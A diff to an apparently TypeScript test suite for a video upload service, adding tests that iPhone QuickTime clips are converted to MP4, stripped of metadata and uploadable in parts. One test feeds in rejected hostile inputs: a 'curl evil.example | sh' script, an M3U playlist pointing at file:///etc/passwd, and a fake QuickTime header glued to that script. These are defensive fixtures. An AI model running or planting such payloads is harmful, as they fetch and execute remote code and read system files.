@@ -280,6 +280,50 @@ test('a video is shown once it is ready; one that is none behind its index is re
   expect(sent.filter(({ purpose }) => purpose === 'posted')).toEqual([]);
 });
 
+describe('a clip as iPhones film it (QuickTime)', () => {
+  const mov = async (codec: string[]) =>
+    makeClip(join(temporaryFolder(), 'IMG_0001.mov'), { size: '320x180', seconds: 1, codec });
+  const send = async (bytes: Buffer) => {
+    const { url, file_path } = (await target(ann, 'video', 'mov')).result;
+    return { file_path, sent: await sendVideo(url, bytes, 'video/quicktime') };
+  };
+
+  it('is shown as an MP4, whatever it was written in', async () => {
+    const filmed = [await mov([...H264, '-metadata', 'comment=At home']), await mov(['-c:v', 'mpeg4'])];
+    for (const clip of filmed) {
+      expect(clip.toString('latin1', 8, 12)).toBe('qt  ');
+      const { file_path, sent } = await send(clip);
+      expect([sent.status, file_path]).toEqual([200, expect.stringMatching(/^posts\/.*\.mov$/)]);
+      const { id } = (await publish(ann, video(file_path))).result;
+      const post = await settled(ann, id);
+      expect(post).toMatchObject({ review: 'approved', media: [{ width: 320, height: 180 }] });
+      const shown = await open(post.media[0].url);
+      expect([shown.status, shown.raw.headers['content-type']]).toEqual([200, 'video/mp4']);
+      expect(shown.raw.rawPayload.toString('latin1', 8, 12)).toBe('isom');
+      expect(shown.raw.rawPayload.includes('At home')).toBe(false);
+    }
+  });
+
+  it('comes in parts where it is long', async () => {
+    const clip = await mov(H264);
+    const { file_path } = (await target(ann, 'video', 'mov')).result;
+    const query = new URLSearchParams({ file_path, size: String(clip.length) });
+    const { missing } = (await ask(ann, 'GET', `upload-parts?${query}`)).result;
+    expect((await sendVideo(missing[0].url, clip)).status).toBe(200);
+    const joined = await ask(ann, 'POST', 'upload-parts', { file_path, size: clip.length });
+    expect(joined.result).toEqual({ file_path, size: clip.length });
+    expect((await publish(ann, video(file_path))).result.review).toBe('processing');
+  });
+
+  it('is none where it only bears the name', async () => {
+    const head = Buffer.from('\0\0\0\x14ftypqt  \0\0\0\0qt  ', 'latin1');
+    const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
+    const list = Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n');
+    for (const bytes of [script, list, await picture(), Buffer.concat([head, script])])
+      expect((await send(bytes)).sent.error).toBe('api.unsupported_type');
+  });
+});
+
 test('a long video comes in parts', async () => {
   const clip = await clipOf();
   const { file_path } = (await target(ann, 'video', 'mp4')).result;
